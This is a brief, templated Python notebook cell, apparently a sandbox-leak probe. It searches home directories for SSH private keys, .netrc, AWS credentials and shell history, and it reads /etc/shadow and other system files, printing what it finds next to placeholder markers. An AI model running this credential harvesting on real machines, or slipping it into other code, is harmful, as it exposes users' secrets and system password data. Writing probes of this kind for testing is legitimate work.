# %%
import glob
import os

for home in (os.path.expanduser("~"), "/root", *glob.glob("/home/*"), "@planted@/home"):
    for name in (".ssh/id_rsa", ".netrc", ".bash_history", ".gitconfig", ".aws/credentials", ".config", ".cache", ".jupyter", ".ollama/id_ed25519"):
        for path in glob.glob(f"{home}/{name}"):
            print(@leaked@, path)
for path in ("/etc/passwd", "/etc/shadow", "/etc/group", "/etc/hostname", "/etc/machine-id", "/etc/fstab", "/etc/resolv.conf", "/var/log/syslog"):
    try:
        print(open(path).read())
        if path not in ("/etc/passwd", "/etc/group"):
            print(@leaked@, path)
    except OSError:
        pass
